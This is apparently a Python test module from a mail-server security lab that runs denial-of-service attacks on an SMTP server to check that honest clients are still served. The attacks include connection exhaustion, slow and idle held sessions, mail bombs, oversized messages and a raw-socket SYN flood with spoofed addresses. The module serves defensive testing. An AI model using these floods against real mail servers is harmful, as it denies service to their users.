"""A-DOS: keeping honest clients out (essay 3.1.3)."""

import asyncio
import contextlib
import math
import random
import socket
import time
from collections.abc import AsyncIterator, Sequence
from functools import partial

from outpost_lab.attack.catalogue import attack
from outpost_lab.attack.evidence import Evidence
from outpost_lab.attack.ground import HELLO, LINE, Ground, compose, token
from outpost_lab.attack.wire import CLOSED, SILENT, Reply, Session, meanwhile, syn, taken_and_last, unverified

IDLE = 130
CROWD, EACH = 35, 12
BOMB, BOMB_SIZE = 300, 288_000
HALF_OPEN = 40_000
GREETED = "an honest stranger is greeted after"


@attack("3a")
async def many_connections_from_one_address(ground: Ground, seen: Evidence) -> None:
    cap, source = ground.office.limits.connections_per_client, ground.internet.fresh_source()
    async with _greetings(ground, seen, [source] * (cap + 15)) as greetings:
        taken, refusals = (sum(reply.code == code for reply in greetings) for code in (220, 421))
        seen.check(taken <= cap, f"{taken} sessions, {refusals} times 421")
        refused = [reply for reply in greetings if reply.code != 220] or greetings[:1]
        seen.expect_all([("one more", reply) for reply in refused], "421 4.7.0", "closed")
        await ground.greeted(seen)


@contextlib.asynccontextmanager
async def _greetings(
    ground: Ground, seen: Evidence, sources: Sequence[str | None], address: str = ""
) -> AsyncIterator[list[Reply]]:
    """The greeting of a session from each source; the sessions end with the block."""
    async with contextlib.AsyncExitStack() as held:

        async def one(source: str | None) -> Reply:
            session = await ground.smtp(seen, source=source, address=address, hello=False, patience=30)
            return (await held.enter_async_context(session)).greeting

        yield await asyncio.gather(*map(one, sources))


async def _waits(
    ground: Ground, seen: Evidence, *, patience: float, pause: float, recipient: str = ""
) -> list[float]:
    """Seconds that an honest stranger waits for a greeting, four times; infinite if the greeting is another one."""
    waits = []
    for _ in range(4):
        started = time.monotonic()
        async with await ground.smtp(seen, ground.stranger, patience=patience) as session:
            waited = round(time.monotonic() - started, 1)
            waits.append(waited if session.greeting.code == 220 else math.inf)
            if recipient:
                seen.expect(await session.envelope("stranger@internet.test", recipient), "250")
        await asyncio.sleep(pause)
    return waits


async def _hold(ground: Ground, seen: Evidence, *, slowly: bool) -> None:
    """Sessions from many addresses that send nothing, or a byte a second; an honest stranger wants to deliver."""
    held: list[Session] = []

    async def one(source: str) -> None:
        try:
            streams = await ground.internet.connect(ground.edge, 25, source=source, patience=30)
        except (OSError, TimeoutError):
            return
        async with Session(streams) as session:
            held.append(session)
            if (await session.reply(patience=30)).code == 220 and slowly:
                for byte in b"EHLO slow.hostile.test":
                    await session.send(bytes([byte]))
                    await asyncio.sleep(1)
            await asyncio.Event().wait()  # open until the attack ends

    idle = await ground.greeted(seen, patience=40)
    async with meanwhile(*map(one, ground.internet.sources[:IDLE])):
        await asyncio.sleep(4)
        waits = await _waits(ground, seen, patience=40, pause=2, recipient=ground.someone(2))
        seen.note(f"({len(held)} sessions held; the honest stranger waited {waits} s)")
        seen.check(len(held) > IDLE * 0.8, f"{len(held)} sessions held")
        seen.in_time(max(waits), 10, idle, GREETED)


attack("3b")(partial(_hold, slowly=False))
attack("3c")(partial(_hold, slowly=True))


@attack("3j")
async def a_silent_client_is_cut_off(ground: Ground, seen: Evidence) -> None:
    async with await ground.smtp(seen) as session:
        await session.send(b"MAIL FRO")
        started = time.monotonic()
        answer = await session.reply(patience=90)
        # not `expect`: it counts silence as a refusal, and here the attacker wants silence
        took = time.monotonic() - started
        seen.check(answer.begins("421 4.4.2", "closed"), f"after {took:.0f} s: {answer.brief}")


@attack("3m")
async def sessions_from_all_over_one_ipv6_network(ground: Ground, seen: Evidence) -> None:
    cap = ground.office.limits.connections_per_client
    sources = [await ground.newcomer() for _ in range(cap + 8)]
    try:
        async with _greetings(ground, seen, sources, ground.edge6) as greetings:
            taken = sum(reply.code == 220 for reply in greetings)
            seen.check(taken <= cap, f"{taken} of {len(sources)} taken")
    finally:
        removed = (f"ip address del {source}/64 dev eth0 2>/dev/null" for source in sources)
        await ground.on("attacker", "; ".join(removed))


@attack("3p")
async def sessions_of_a_few_addresses_each_within_its_limit(ground: Ground, seen: Evidence) -> None:
    """They take every session that the MTA has, and connect again when they are cut off."""
    assert ground.office.limits.connections_per_client >= EACH
    idle = min([await ground.greeted(seen, patience=40) for _ in range(3)])
    held = set[Session]()

    async def one(source: str) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                async with Session(await ground.internet.connect(ground.edge, 25, source=source)) as session:
                    held.add(session)
                    while (await session.reply(patience=120)).code not in (CLOSED, SILENT):
                        pass  # the attacker says nothing
                    held.remove(session)
            await asyncio.sleep(1)

    sources = ground.internet.sources[:CROWD]
    async with meanwhile(*(one(source) for source in sources for _ in range(EACH))) as attackers:
        await asyncio.sleep(5)
        waits = await _waits(ground, seen, patience=60, pause=1)
        seen.note(f"({len(attackers)} sockets from {len(sources)} addresses, {len(held)} sessions held)")
        seen.in_time(max(waits), 2, idle, GREETED)


@attack("3n")
async def a_mailbox_closed_without_a_message(ground: Ground, seen: Evidence) -> None:
    """An address is named again and again, in sessions that send nothing; honest mail still arrives."""
    victim, named = ground.someone(2), 0
    while named < 2 * ground.office.limits.mailbox_messages:
        async with await ground.smtp(seen) as session:
            for _ in range(2):
                await session.say("MAIL FROM:<x@internet.test>")
                replies = await session.say_all([f"RCPT TO:<{victim}>"] * 50)
                named += len(replies)
                await session.say("RSET")
    lines = "MAIL FROM:<stranger@internet.test>", f"RCPT TO:<{victim}>"
    honest = await ground.last_reply(seen, *lines)
    seen.check(honest.begins("250"), honest.brief)  # refusing it is what the attacker wants


@attack("3o")
async def a_bomb_by_way_of_the_backup_mx(ground: Ground, seen: Evidence) -> None:
    """What a peer relays for strangers counts as strangers' mail, and one network gets half of the limit."""
    peer = next(peer for peer in ground.office.peers if peer.backup_mx)
    recipient, mark, most = ground.someone(2), token(), ground.office.limits.mailbox_messages // 2
    taken, started = 0, time.monotonic()
    async with await ground.smtp(seen, ground.peer, port=peer.listen, patience=120) as session:
        await session.starttls(ground.role("mta").fqdn, unverified(), HELLO)
        for _ in range(most + 10):
            message = compose("stranger@internet.test", recipient, mark)
            last = await session.deliver("stranger@internet.test", recipient, message)
            if not last.good:
                break
            taken += 1
    # ten minutes allow as many again: on a slow machine it is no bomb
    seen.check(taken <= most + 2 + int(most * (time.monotonic() - started) / 600), f"{taken} taken")
    if not last.good:
        seen.expect(last, "450 4.7.1")
    await ground.settled(patience=60)
    await ground.expunge(mark, recipient)


@attack("3f")
async def messages_too_large(ground: Ground, seen: Evidence) -> None:
    limit = int(ground.office.limits.message_size)
    async with await ground.smtp(seen, ground.stranger) as session:
        seen.expect(await session.say(f"MAIL FROM:<stranger@internet.test> SIZE={limit + 1}"), "552 5.3.4")
        await session.say("RSET")
        await session.envelope("stranger@internet.test", ground.someone(2))
        body = compose("stranger@internet.test", ground.someone(2), token())
        body += LINE * (limit // len(LINE) + 2000)
        seen.expect(await session.message(body), "552 5.3.4", "closed")


@attack("3g")
async def mail_while_the_queue_volume_is_full(ground: Ground, seen: Evidence) -> None:
    """The reserve is set above what is free: for Postfix the volume is then full, and no disk is really filled."""
    line = "MAIL FROM:<stranger@internet.test> SIZE=1000"
    await ground.on_mta(
        "set -e; cp -a /etc/postfix/main.cf /root/main.cf.kept; free=$(df --output=avail -B1 /var/spool/postfix | tail -n 1); "
        'postconf -e "queue_minfree=$(( free < 4611686018427387904 ? free + 1073741824 : free ))"; systemctl reload postfix.service; sleep 1'
    )
    try:
        seen.expect(await ground.last_reply(seen, line), "452 4.3.1")
    finally:
        back = "cp -a /root/main.cf.kept /etc/postfix/main.cf; rm /root/main.cf.kept"
        await ground.on_mta(f"{back}; systemctl reload postfix.service; sleep 1")
    seen.expect(await ground.last_reply(seen, line), "250")


@attack("3h")
async def a_mail_bomb_to_one_user(ground: Ground, seen: Evidence) -> None:
    """Mail to dave, whose mailbox is small: it ends at a rate limit or at the quota, and nobody gets a bounce."""
    recipient, victim, mark = f"dave@{ground.domain}", ground.victim(), token()
    message = compose(victim, recipient, mark) + LINE * (BOMB_SIZE // len(LINE))
    answers: list[Reply] = []

    async def some(count: int) -> None:
        async with await ground.smtp(seen, ground.stranger, patience=120) as session:
            for _ in range(count):
                answers.append(await session.deliver(victim, recipient, message))
                if answers[-1].code in (CLOSED, SILENT, 421):
                    return

    await asyncio.gather(*(some(BOMB // 6) for _ in range(6)))
    taken, last = taken_and_last(answers)
    seen.check(taken < BOMB, f"{taken} of {BOMB} taken; then: {last.brief}")
    if not last.good:
        seen.expect(last, "450 4.7.1", "451 4.7.1", "450 4.2.", "452 4.", "421")
    await ground.settled(patience=60)
    await ground.unheard(victim, seen)
    await ground.expunge(mark, recipient)
    await ground.drop_mail_to(victim)


@attack("3i")
async def envelopes_without_end(ground: Ground, seen: Evidence) -> None:
    source = ground.internet.fresh_source()

    async def some() -> list[Reply]:
        answers = []
        async with await ground.smtp(seen, source=source) as session:
            for _ in range(20):
                answers.append(await session.say("MAIL FROM:<x@internet.test>"))
                await session.say("RSET")
        return answers

    answers = [reply for part in await asyncio.gather(*(some() for _ in range(8))) for reply in part]
    seen.expect(taken_and_last(answers)[1], "450 4.7.1")


@attack("3k")
async def half_open_connections(ground: Ground, seen: Evidence) -> None:
    """Requests for connections from addresses that do not exist: they are never completed, and fill the table."""
    stem = str(ground.info["world"]["attacker"]["addresses"]["wan"][0]).rpartition(".")[0]
    nobody = [f"{stem}.{octet}" for octet in range(231, 251)]
    raw = ground.internet.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    chance = random.Random(7)  # noqa: S311 (the same packets every time)
    waits = []

    async def flood() -> None:
        for number in range(HALF_OPEN):
            raw.sendto(syn(chance.choice(nobody), ground.edge, 25, number), (ground.edge, 0))
            if number % 50 == 0:
                await asyncio.sleep(0.05)

    idle = await ground.greeted(seen, patience=40)
    with raw:
        async with meanwhile(flood()):
            for _ in range(4):
                await asyncio.sleep(1)
                started = time.monotonic()
                try:
                    await ground.greeted(seen, patience=15)
                except (OSError, TimeoutError) as error:
                    seen.check(False, f"none: {type(error).__name__}", late=isinstance(error, TimeoutError))
                waits.append(round(time.monotonic() - started, 1))
    seen.note(f"({HALF_OPEN} requests; waits {waits} s)")
    seen.in_time(max(waits), 10, idle, GREETED)
